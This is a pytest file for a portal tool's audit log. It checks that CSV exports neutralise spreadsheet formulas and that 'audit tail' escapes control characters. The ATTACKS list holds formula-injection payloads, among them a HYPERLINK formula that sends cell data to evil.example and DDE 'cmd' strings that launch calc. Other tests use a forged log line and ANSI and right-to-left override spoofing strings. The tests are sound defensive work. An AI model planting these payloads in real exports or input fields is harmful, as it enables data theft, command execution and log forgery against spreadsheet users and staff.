"""What staff read from the audit log is safe: no live formula in the CSV they open in a
spreadsheet, no forged line in `audit tail`."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from click.testing import CliRunner

from portalgen.audit import AuditEvent, AuditLog, new_event
from portalgen.cli import cli
from portalgen.textsafe import escape_controls, spreadsheet_cell

NOW = datetime(2026, 6, 15, 12, 0, tzinfo=UTC)
SECRET = "s" * 40


def config(tmp_path: Path) -> Path:
    path = tmp_path / "config.yaml"
    site = str(tmp_path / "site")
    path.write_text(json.dumps({"storage": {"url": site}, "audit": {"path": "audit.jsonl"}}))
    return path


def run(path: Path, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(
        cli, ["--config", str(path), *args], env={"PORTALGEN_SECRET": SECRET}
    )
    return result.exit_code, result.stdout, result.stderr


def comment(text: str, name: str = "", minutes: int = 0) -> AuditEvent:
    return new_event(
        "comment.added",
        "C00001",
        contact="compras@cliente.example",
        document="invoices/F1.html",
        data={"comment": text, "name": name},
        now=NOW + timedelta(minutes=minutes),
    )


ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Pulse aquí")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+34 600 000 000",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-12.50e3",
    "- 12",
]


def test_audit_export_turns_every_formula_into_text(tmp_path: Path) -> None:
    path = config(tmp_path)
    log = AuditLog(tmp_path / "audit.jsonl")
    log.append_many([comment(text, name="=cmd", minutes=i) for i, text in enumerate(ATTACKS)])
    code, out, _ = run(path, "audit", "export")
    assert code == 0
    rows = list(csv.DictReader(io.StringIO(out, newline="")))
    assert [r["comment"] for r in rows] == ["'" + text for text in ATTACKS]
    assert {r["name"] for r in rows} == {"'=cmd"}
    for row in rows:  # what a spreadsheet would run: nothing
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())


@pytest.mark.parametrize("amount", ["-12.50", "-3", "-0.01", "12.50", "7"])
def test_a_plain_number_stays_a_number(amount: str) -> None:
    assert spreadsheet_cell(amount) == amount


def test_audit_export_keeps_a_negative_amount_a_number(tmp_path: Path) -> None:
    path = config(tmp_path)
    AuditLog(tmp_path / "audit.jsonl").append(comment("-12.50"))
    _, out, _ = run(path, "audit", "export")
    [row] = list(csv.DictReader(io.StringIO(out)))
    assert row["comment"] == "-12.50"


def test_audit_tail_cannot_be_made_to_show_a_forged_event(tmp_path: Path) -> None:
    path = config(tmp_path)
    forged = "Ok.\n2026-06-15 14:05  C00002 jefe@cliente.example accepted quote quotes/P9.html"
    log = AuditLog(tmp_path / "audit.jsonl")
    log.append_many([comment(forged), comment("\x1b[2J\x1b[Hcleared\u202etxt.exe", minutes=1)])
    code, out, _ = run(path, "audit", "tail")
    assert code == 0
    lines = out.splitlines()
    assert len(lines) == 2  # one line per event, whatever the comment holds
    assert "Ok.\\n2026-06-15 14:05  C00002" in lines[0]
    assert '"\\x1b[2J\\x1b[Hcleared\\u202etxt.exe"' in lines[1]
    assert not any(c in out for c in "\x1b\r\u202e")


def test_escaping_is_reversible_and_says_what_is_there() -> None:
    assert escape_controls("a\\nb") == "a\\\\nb"  # a real backslash is not a newline
    assert escape_controls("a\nb\tc\x7f\x85\u2028") == "a\\nb\\tc\\x7f\\x85\\u2028"
    assert escape_controls("Ñandú ¿sí?") == "Ñandú ¿sí?"


def rejection(reason: str, text: str) -> AuditEvent:
    return new_event(
        "quote.rejected",
        "C00001",
        contact="compras@cliente.example",
        document="quotes/P1.html",
        data={"reason": reason, "comment": text, "name": "Ana"},
        now=NOW,
    )


def test_audit_tail_shows_a_rejection_on_one_line_shortened_at_a_word(tmp_path: Path) -> None:
    path = config(tmp_path)
    reason = "El precio de la instalación supera nuestro presupuesto " * 3
    text = "Gracias.\nLes llamaremos\nel lunes."
    AuditLog(tmp_path / "audit.jsonl").append(rejection(reason, text))
    code, out, _ = run(path, "audit", "tail")
    assert code == 0
    assert out.count("\n") == 1  # one line per event
    line = out.rstrip("\n")
    shown = line.split('reason "', 1)[1].split('"', 1)[0]
    assert shown.endswith("…") and len(shown) <= 80
    assert reason.startswith(shown[:-1] + " ")  # cut between two words, not inside one
    assert line.endswith('comment "Gracias.\\nLes llamaremos\\nel lunes."')


def test_audit_tail_says_staff_did_what_staff_did(tmp_path: Path) -> None:
    path = config(tmp_path)
    granted = new_event("access.granted", "C00021", contact="staff", data={}, now=NOW)
    AuditLog(tmp_path / "audit.jsonl").append(granted)
    _, out, _ = run(path, "audit", "tail")
    assert out.split("  ", 1)[1] == "staff granted access to C00021\n"
